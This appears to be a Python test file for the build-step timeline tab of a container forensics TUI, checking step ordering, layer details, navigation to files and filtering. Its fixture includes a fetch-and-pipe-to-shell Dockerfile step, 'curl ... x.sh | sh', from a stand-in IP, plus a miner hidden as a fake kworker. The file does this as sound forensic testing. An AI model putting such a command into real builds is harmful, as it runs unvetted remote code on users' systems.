"""The tab of the build steps: every step in order, the layer it made, and where that leads."""

from __future__ import annotations

from forensics.tui.panes.timeline import TimelinePane
from forensics.tui.scopes import Scope
from forensics.tui.widgets import KeyValues, Paragraph, plain
from tests.tui.conftest import Open, Program


def pane_of(program: Program) -> TimelinePane:
    """The pane of the timeline."""
    return program.screen.query_one(TimelinePane)


async def test_every_build_step_stands_in_order_with_its_layer(open_story: Open) -> None:
    async with open_story(size=(160, 40)) as program:
        await program.press("7")
        pane = pane_of(program)
        assert pane.table.has_focus
        rows = [[plain(cell) for cell in pane.cells(step)] for step in pane.listed]
        assert [row[1] for row in rows] == ["0", "1", "2", "3", "·"]
        assert rows[2][0] == "2026-03-01 10:02"
        assert rows[2][-1] == "RUN curl -s http://192.0.2.1/x.sh | sh"
        assert rows[2][6].startswith("!"), "the layer of the miner carries the worst finding's sign"
        assert rows[3][5] == "31", "the last layer deleted 31 paths"
        assert str(pane.border_subtitle) == "5"


async def test_a_step_tells_of_its_layer_and_leads_to_its_files(open_story: Open) -> None:
    async with open_story(size=(160, 40)) as program:
        await program.press("7", "j", "j")
        pane = pane_of(program)
        card = pane.query_one(".card", KeyValues)
        told = "\n".join(plain(item.text) for item in card.items if isinstance(item, Paragraph))
        assert "192.0.2.1" in told
        assert "/usr/lib/.x/kworker" in told, "the findings of the layer are listed"
        await program.press("enter")
        await program.settled()
        assert program.screen.tab == "layers"
        assert program.screen.workspace.files_pane.scope == Scope(2)
        assert program.screen.workspace.active == "files"
        await program.press("escape")
        assert program.screen.tab == "timeline"


async def test_a_finding_on_the_card_of_a_step_is_followed(open_story: Open) -> None:
    async with open_story(size=(160, 40)) as program:
        await program.press("7", "j", "j", "tab")
        card = pane_of(program).query_one(".card", KeyValues)
        assert card.has_focus
        while getattr(card.cursor_item, "payload", None) is None:
            await program.press("j")
        await program.press("enter")
        detail = program.screen.workspace.detail_pane
        await program.until(lambda: detail.version)
        assert detail.version is not None
        assert detail.version.layer == 2


async def test_the_steps_can_be_filtered(open_story: Open) -> None:
    async with open_story(size=(160, 40)) as program:
        await program.press("7", "slash", *"layer:none")
        pane = pane_of(program)
        await program.until(lambda: len(pane.listed) == 1)
        assert "ENTRYPOINT" in pane.listed[0].instruction
        await program.press("escape")
        await program.until(lambda: len(pane.listed) == 5)
